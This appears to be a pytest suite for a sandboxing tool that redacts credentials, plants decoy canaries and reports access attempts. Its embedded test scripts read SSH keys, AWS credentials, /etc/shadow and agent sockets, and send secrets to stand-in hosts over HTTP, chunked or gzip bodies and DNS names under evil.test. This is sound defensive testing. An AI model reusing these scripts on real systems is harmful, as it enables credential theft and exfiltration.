"""Credentials end to end: what a trial may hold, what is told of it, and that no value is ever written."""

from __future__ import annotations

import base64
import json
import os
import socket
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from scenario_hostile import GUARD
from scenario_lab import Lab, Ran, python
from scenario_network import digesting, options, serving

pytestmark = pytest.mark.kernel("witness", "overlay", "cgroup")

PASSED = "tok-passed-5c1f0e77b2"
WITH_SLASH = "AbCdEfGh/IjKlMnOp+QrStUv0123456789wxyzAB"
DROPPED = "sk-dropped-9d2e41aa07"
URL = "postgres://app:pw-in-url-4411@db.test:5432/app"
ON_DISK = "REAL-key-on-disk-1742"
SECRETS = (PASSED, WITH_SLASH, DROPPED, "pw-in-url-4411", ON_DISK)

PLANTING = f"""{GUARD}
import base64, ctypes, os, socket, subprocess, sys
secret, other = os.environ['MY_TOKEN'], os.environ['OTHER_SECRET']
assert sys.argv[1] == {DROPPED!r} and sys.stdin.read().strip() == secret
subprocess.run(['true', '-H', 'Authorization: Bearer ' + secret, 'https://api.test/?k=' + other])
subprocess.run(['true', base64.b64encode(('user:' + secret).encode()), secret.encode().hex()])
open('note-' + secret, 'w').write(secret)
os.makedirs('d/' + other + '/e')
os.symlink('/tmp/' + secret, 'link')
try: open('/etc/' + secret)
except OSError: pass
try: open('/home/.ssh/' + other, 'w')
except OSError: pass
with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as notes:
    notes.connect(os.environ['SUPERVISE_NOTIFY'])
    notes.send(('STATUS=my key is ' + secret).encode())
for address in ('169.254.169.254', '203.0.113.9'):
    with socket.socket() as out:
        try: out.connect((address, 80)); out.send(secret.encode())
        except OSError: pass
for kind, path in ((socket.SOCK_STREAM, '/run/docker.sock'), (socket.SOCK_STREAM, '/tmp/ssh-x/agent.1')):
    with socket.socket(socket.AF_UNIX, kind) as agent:
        try: agent.connect(path)
        except OSError: pass
home = os.path.expanduser('~')
for name in ('.ssh/id_ed25519', '.aws/credentials', '.netrc', '.docker/config.json', '.kube/config'):
    try: open(os.path.join(home, name)).read()
    except OSError: pass
for path in ('/etc/shadow', '/root/.ssh/id_rsa', '/proc/1/environ', '/proc/1/mem'):
    try: open(path).read()
    except OSError: pass
os.path.exists(os.path.join(home, '.git-credentials'))
os.path.exists('id_ecdsa')
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(250, 0, -3, 0); libc.unshare(0x10000000)
try: os.setuid(12345)
except OSError: pass
open('deploy_ed25519', 'w').write('-----BEGIN OPENSSH PRIVATE KEY-----\\nabc\\n-----END OPENSSH PRIVATE KEY-----\\n')
open('settings.py', 'w').write('TOKEN = "ghp_' + 'zQ81mfYYxpLmnd83nAk3ncsOxzAAb26d4Klp"\\n')
print('MY_TOKEN' in os.environ, 'OPENAI_API_KEY' in os.environ, 'DATABASE_URL' in os.environ)
"""


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Lab:
    """A lab whose user has a home of his own with a key in it, and credentials in his environment."""
    top = tmp_path_factory.mktemp("credentials")
    home, work, user = top / "home", top / "work", top / "user"
    home.mkdir(mode=0o700)
    work.mkdir()
    (user / ".ssh").mkdir(parents=True)
    (user / ".ssh/id_ed25519").write_text(ON_DISK)
    (top / "pass.toml").write_text('schema = 1\nname = "pass"\n[credentials]\npass = ["OTHER_SECRET"]\n')
    (top / "decoys.toml").write_text('schema = 1\nname = "decoys"\n[credentials]\ncanaries = true\n')
    environ = {"HOME": str(user), "MY_TOKEN": PASSED, "OTHER_SECRET": WITH_SLASH}
    return Lab(home, work, environ | {"OPENAI_API_KEY": DROPPED, "DATABASE_URL": URL})


@pytest.fixture(scope="module")
def planted(place: Lab) -> Iterator[Ran]:
    """One trial that puts its secrets wherever it can, under a name that has one too."""
    reading, writing = os.pipe()
    os.write(writing, PASSED.encode())
    os.close(writing)
    options = ("-p", str(place.home.parent / "pass.toml"), "--env", "MY_TOKEN", "--name", f"run with {DROPPED}")
    try:
        yield place.run(*options, "--", *python(PLANTING, DROPPED), stdin=reading)
    finally:
        os.close(reading)


def run_dir(place: Lab, number: int) -> Path:
    """Give the directory of a run, by the order in which they were made."""
    return sorted((place.home / "runs").iterdir())[number]


def uses(ran: Ran) -> set[tuple[str, str, str]]:
    """Give what was done with what."""
    return {(use["kind"], use["name"], use["action"]) for use in ran.report["effects"]["credentials"]}


def test_no_value_is_in_anything_that_was_written(place: Lab, planted: Ran) -> None:
    """Log, manifest, completion argument, attestation, all but the trial's own files; nor in any way to show them."""
    assert planted.out == b"True False False\n", planted.err
    forms = [form for secret in SECRETS for form in (secret, secret.encode().hex())]
    forms.append(base64.b64encode(f"user:{PASSED}".encode()).decode()[8:24])
    run = run_dir(place, 0)
    kept = [path for path in run.rglob("*") if path.is_file() and (run / "stage") not in path.parents]
    assert {"manifest.json", "completion.json", "completion.dsse.json", "000000.seg"} <= {path.name for path in kept}
    files = {str(path.relative_to(run)): path.read_bytes() for path in kept}
    for form in ("text", "json"):
        files[f"show {form}"] = place.call("show", "last", "--format", form).stdout
    files["events"] = place.call("events", "last").stdout
    files["why"] = place.call("why", "last", "scope").stdout
    assert len(files["events"]) > 10_000
    wrong = [(name, form) for name, text in files.items() for form in forms if form.encode() in text]
    assert not wrong
    assert b"[redacted MY_TOKEN]" in files["events"]
    assert place.call("verify", "last").returncode == 0


def test_a_secret_in_a_name_leaves_no_gap(planted: Ran) -> None:
    """What the log has under another name is still found on disk: scope violated by the connections only."""
    gaps = [gap["text"] for route in planted.report["coverage"] for gap in route["gaps"]]
    assert gaps == []
    assert planted.files["note-[redacted MY_TOKEN]**"]["net"] == "created"
    rules = {violation["rule"] for violation in planted.report["scope"]["violations"]}
    assert "blocked-connection" in rules
    assert not [rule for rule in rules if "write" in rule or "canary" in rule]


@pytest.mark.parametrize(
    "use",
    [
        ("env", "OPENAI_API_KEY", "denied"),
        ("env", "DATABASE_URL", "denied"),
        ("env", "MY_TOKEN", "passed"),
        ("env", "OTHER_SECRET", "passed"),
        ("env", "MY_TOKEN", "used"),
        ("env", "/proc/1/environ", "denied"),
        ("privilege", "/proc/1/mem", "denied"),
        ("privilege", "unshare", "denied"),
        ("privilege", "setuid", "denied"),
        ("keyring", "keyctl", "denied"),
        ("metadata", "169.254.169.254", "denied"),
        ("agent", "/run/docker.sock", "denied"),
        ("agent", "/tmp/ssh-x/agent.1", "denied"),
        ("file", "~/.ssh/id_ed25519", "denied"),
        ("file", "~/.aws/credentials", "denied"),
        ("file", "~/.netrc", "denied"),
        ("file", "~/.git-credentials", "denied"),
        ("file", "/etc/shadow", "denied"),
        ("file", "/root/.ssh/id_rsa", "denied"),
    ],
    ids=" ".join,
)
def test_each_attempt_and_use_is_told(planted: Ran, use: tuple[str, str, str]) -> None:
    """Masked, absent, refused and passed ones, by name."""
    assert use in uses(planted)


def test_what_was_made_is_told_with_a_fingerprint(place: Lab, planted: Ran) -> None:
    """A new key by its name, tokens by their looks, a passed one that was kept by its own name."""
    work = os.fsdecode(place.work.resolve())
    assert ("file", f"{work}/deploy_ed25519", "created") in uses(planted)
    assert ("file", f"{work}/id_ecdsa", "denied") in uses(planted)
    told = planted.report["effects"]["credentials"]
    found = {use["name"]: use["fingerprint"] for use in told if " in " in use["name"]}
    assert set(found) == {
        f"GitHub Token in {work}/settings.py",
        f"Private Key in {work}/deploy_ed25519",
    }
    passed = next(use["fingerprint"] for use in told if use["action"] == "passed" and use["name"] == "MY_TOKEN")
    (kept,) = (use for use in told if use["where"] == f"in {work}/note-[redacted MY_TOKEN]**")
    assert (kept["name"], kept["action"], kept["fingerprint"]) == ("MY_TOKEN", "used", passed)
    assert all(fingerprint.startswith("hmac-sha256:") for fingerprint in found.values())


def test_the_attempts_name_who_made_them(planted: Ran) -> None:
    """Each with its process and events, which `why` explains."""
    (use,) = (use for use in planted.report["effects"]["credentials"] if use["name"] == "/etc/shadow")
    assert use["process"] in {process["id"] for process in planted.report["effects"]["processes"]}
    assert use["events"]


# -- decoys ----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def leaking(place: Lab, planted: Ran) -> tuple[Ran, Ran, str]:
    """A trial that keeps a decoy in its workspace, and a later one that copies it on; and the first one's id."""
    assert planted.code == 0
    policy = str(place.home.parent / "decoys.toml")
    script = "cat ~/.aws/credentials >/dev/null; base64 ~/.ssh/id_ed25519 | rev | rev > kept; stat -c '%a %u' ~/.netrc"
    first = place.run("-p", policy, "--", "sh", "-c", f"{script}; echo $DATABASE_URL | cut -c 1-17; touch ~/.kube/x")
    later = place.run("--", "sh", "-c", "cp kept copy; cat ~/.aws/credentials")
    return first, later, run_dir(place, 1).name


def test_decoys_lie_where_credentials_do(leaking: tuple[Ran, Ran, str]) -> None:
    """They belong to the user, cannot be written, and reading one is told and no violation by itself."""
    first, _, _ = leaking
    assert first.out.splitlines() == [b"600 0", b"postgresql://app:"], first.err
    assert {("canary", "~/.aws/credentials", "read"), ("canary", "~/.ssh/id_ed25519", "read")} <= uses(first)
    assert b"Read-only file system" in first.err


def test_a_decoy_in_a_staged_file_violates(leaking: tuple[Ran, Ran, str]) -> None:
    """Encoded once more it is still known; scope: violated."""
    first, _, name = leaking
    (leaked,) = (use for use in first.report["effects"]["credentials"] if use["action"] == "leaked")
    assert (leaked["kind"], leaked["name"], leaked["run"]) == ("canary", "ssh", name)
    assert first.scope == "violated"
    assert [violation["rule"] for violation in first.report["scope"]["violations"]] == ["leaked-canary"]


def test_a_decoy_of_an_earlier_run_violates_in_a_later_one(place: Lab, leaking: tuple[Ran, Ran, str]) -> None:
    """The later run has no decoys of its own; the event names both runs; scope: violated."""
    _, later, name = leaking
    assert later.code != 0, "without decoys nothing lies at ~/.aws"
    (violation,) = later.report["scope"]["violations"]
    assert f"canary of run {name}" in violation["text"]
    (event,) = (event for event in place.events("canary.leaked"))
    assert (event["placed_by"], event["seen_in"]) == (name, run_dir(place, 2).name)
    assert later.scope == "violated"


def test_a_decoy_that_came_back_connects_the_runs(place: Lab, leaking: tuple[Ran, Ran, str]) -> None:
    """Whatever else they met, the decoy alone makes them one unit."""
    _, _, name = leaking
    told = json.loads(place.call("separate", name, run_dir(place, 2).name, "--json").stdout)
    (edge,) = told["edges"]
    assert edge["verdict"] == "connected"
    (reason,) = (reason for reason in edge["reasons"] if reason["rule"] == "credential-met")
    assert "made the credential canary" in reason["text"]


def test_no_decoy_is_stored(place: Lab, leaking: tuple[Ran, Ran, str]) -> None:
    """The state directory has the key and the names of runs; no decoy is in any log."""
    first, _, name = leaking
    assert first.code is not None
    kept = place.home / "credentials"
    assert stat.S_IMODE((kept / "key").stat().st_mode) == 0o600
    assert sorted(path.name for path in (kept / "canaries").iterdir()) == [name]
    lines = base64.b64decode((place.work / "kept").read_bytes()).splitlines()
    for run in (run_dir(place, 1), run_dir(place, 2)):
        for path in (path for path in run.rglob("*") if path.is_file() and (run / "stage") not in path.parents):
            assert lines[2] not in path.read_bytes(), path


def test_a_decoy_in_a_shared_place_violates_for_who_left_it_and_who_read_it(place: Lab) -> None:
    """One run leaves it there, another only reads it, a third only knows its name; scope: violated, violated, clean."""
    common = place.home.parent / "common"
    common.mkdir()
    policy = str(place.home.parent / "decoys.toml")
    script = f"cp ~/.netrc {common}/left"
    left = place.run("-p", policy, "--shared", str(common), "--", "sh", "-c", script)
    name = max((place.home / "runs").iterdir()).name
    read = place.run("--shared", str(common), "--", "cat", f"{common}/left")
    named = place.run("--shared", str(common), "--", "test", "-e", f"{common}/left")
    assert (left.scope, read.scope, named.scope) == ("violated", "violated", "clean"), left.err
    for ran in (left, read):
        (use,) = (use for use in ran.report["effects"]["credentials"] if use["action"] == "leaked")
        assert (use["name"], use["run"], use["where"]) == ("netrc", name, f"in {common}/left (plain)")
        assert use["process"] is not None


def test_a_credential_that_is_to_be_passed_must_be_there(place: Lab) -> None:
    """Nothing runs without it: 125, and the name is told."""
    environ = {name: value for name, value in place.environ.items() if name != "OTHER_SECRET"}
    lab = Lab(place.home, place.work, environ)
    ended = lab.call("-p", str(place.home.parent / "pass.toml"), "--", "true")
    assert ended.returncode == 125
    assert b"OTHER_SECRET" in ended.stderr


def test_a_socket_of_the_callers_agent_is_known_by_the_environment(place: Lab, tmp_path: Path) -> None:
    """`SSH_AUTH_SOCK` leads somewhere of its own; the trial finds it absent, and its attempt is told."""
    path = tmp_path / "agent"
    with socket.socket(socket.AF_UNIX) as agent:
        agent.bind(str(path))
        agent.listen()
        source = f"import socket\ns = socket.socket(socket.AF_UNIX)\nprint(s.connect_ex({str(path)!r}))"
        lab = Lab(place.home, place.work, place.environ | {"SSH_AUTH_SOCK": str(path)})
        ran = lab.run("--", *python(source))
    assert ran.out == b"2\n"
    assert ("agent", str(path), "denied") in uses(ran)


SENDING = """
import base64, os, socket, time
decoy = open(os.path.expanduser('~/.aws/credentials')).read().split('= ')[2].strip().encode()
with socket.create_connection(('203.0.113.9', 80), 5) as out:
    out.sendall(b'x' * 20000 + base64.b64encode(b'1' + decoy)[:30])
    time.sleep(0.05)
    out.sendall(base64.b64encode(b'1' + decoy)[30:])
try: socket.getaddrinfo(decoy.hex()[:56] + '.' + decoy.hex()[56:] + '.evil.test', 80)
except OSError: pass
"""


def test_a_masked_file_that_is_read_by_another_name_is_told(place: Lab, tmp_path: Path) -> None:
    """The mask holds for its own name; its hard link lies open, and reading that is a read of it."""
    (place.work / "vault").mkdir()
    (place.work / "vault" / "key").write_text("secret of old\n", encoding="utf-8")
    (place.work / "plain").write_text("no secret\n", encoding="utf-8")
    os.link(place.work / "vault" / "key", place.work / "again")
    os.link(place.work / "plain", place.work / "plain-again")
    policy = tmp_path / "mask.toml"
    policy.write_text('schema = 1\nname = "mask"\n[credentials]\nmask = ["vault"]\n', encoding="utf-8")
    ran = place.run("-p", str(policy), "--", "sh", "-c", "cat vault/key again plain-again")
    assert ran.out == b"secret of old\nno secret\n"
    masked = str(place.work / "vault" / "key")
    found = {(use["action"], use["where"]) for use in ran.report["effects"]["credentials"] if use["name"] == masked}
    assert found == {("denied", None), ("read", f"by the name {place.work / 'again'}")}


SENDING_BODIES = """
import gzip, os, socket
decoy = open(os.path.expanduser('~/.aws/credentials')).read().split('= ')[2].strip().encode()
def send(port, head, body):
    with socket.create_connection(('203.0.113.9', port), 5) as out:
        out.sendall(b'POST / HTTP/1.1\\r\\nHost: api.test\\r\\n' + head + b'\\r\\n\\r\\n' + body)
chunks = b''.join(b'1\\r\\n' + bytes([byte]) + b'\\r\\n' for byte in decoy)
send(80, b'Transfer-Encoding: chunked', chunks + b'0\\r\\n\\r\\n')
packed = gzip.compress(b'{"key": "' + decoy + b'"}')
send(81, b'Content-Encoding: gzip\\r\\nContent-Length: %d' % len(packed), packed)
"""


def test_a_decoy_in_chunks_or_compressed_is_known(place: Lab, tmp_path: Path) -> None:
    """A body is looked at as its reader would see it; scope: violated, by both."""
    policy = tmp_path / "sink.toml"
    policy.write_text(
        'schema = 1\nname = "sink"\n[network]\ndefault = "sinkhole"\n[credentials]\ncanaries = true\n', encoding="utf-8"
    )
    ran = place.run("-p", str(policy), "--", *python(SENDING_BODIES))
    assert ran.code == 0, ran.err
    sent = {use["where"] for use in ran.report["effects"]["credentials"] if use["run"] and use["name"] == "aws"}
    assert "sent to 203.0.113.9:80, in a chunked body (plain)" in sent
    assert "sent to 203.0.113.9:81, in a compressed body (plain)" in sent
    assert {violation["rule"] for violation in ran.report["scope"]["violations"]} >= {"leaked-canary"}


def test_a_decoy_that_is_sent_is_known_beyond_what_is_kept_and_in_names(place: Lab, tmp_path: Path) -> None:
    """Past the first 4 KiB, cut in two, in base64; and as hex in the labels of a name; scope: violated, twice."""
    policy = tmp_path / "sink.toml"
    policy.write_text(
        'schema = 1\nname = "sink"\n[network]\ndefault = "sinkhole"\n[credentials]\ncanaries = true\n', encoding="utf-8"
    )
    ran = place.run("-p", str(policy), "--", *python(SENDING))
    assert ran.code == 0, ran.err
    name = max((place.home / "runs").iterdir()).name
    leaked = {(use["name"], use["where"], use["run"]) for use in ran.report["effects"]["credentials"] if use["run"]}
    sent = {where for form, where, run in leaked if (form, run) == ("aws", name)}
    assert "sent to 203.0.113.9:80 (base64)" in sent
    assert any(where.startswith("in the name ") and where.endswith("(hex)") for where in sent)
    assert {violation["rule"] for violation in ran.report["scope"]["violations"]} >= {"leaked-canary"}
    assert all(use["process"] for use in ran.report["effects"]["credentials"] if use["run"])


@pytest.mark.parametrize("decoys", [True, False])
def test_a_decoy_of_an_earlier_run_that_is_sent_to_an_allowed_host(place: Lab, tmp_path: Path, *, decoys: bool) -> None:
    """In the open: a run with decoys looks, and scope is violated; one without looks at nothing that it sends."""
    policies = {}
    for name, value in (("with", "true"), ("without", "false")):
        policies[name] = tmp_path / f"{name}.toml"
        policies[name].write_text(f'schema = 1\nname = "{name}"\n[credentials]\ncanaries = {value}\n', encoding="utf-8")
    first = place.run("-p", str(policies["with"]), "--", "sh", "-c", "cat ~/.netrc")
    earlier = max((place.home / "runs").iterdir()).name
    word = first.out.split()[-1].decode()
    source = (
        f"{GUARD}\nimport socket\nwith socket.create_connection(('api.test', 80), 5) as out: out.sendall(b'x={word}')"
    )
    with serving(digesting) as api:
        policy = str(policies["with" if decoys else "without"])
        ran = place.run("-p", policy, *options(api_80=api), "--", *python(source))
    assert ran.code == 0, ran.err
    leaked = [use for use in ran.report["effects"]["credentials"] if use["run"] == earlier]
    assert [use["where"] for use in leaked] == (["sent to api.test:80 (plain)"] if decoys else [])
    assert ran.scope == ("violated" if decoys else "clean")
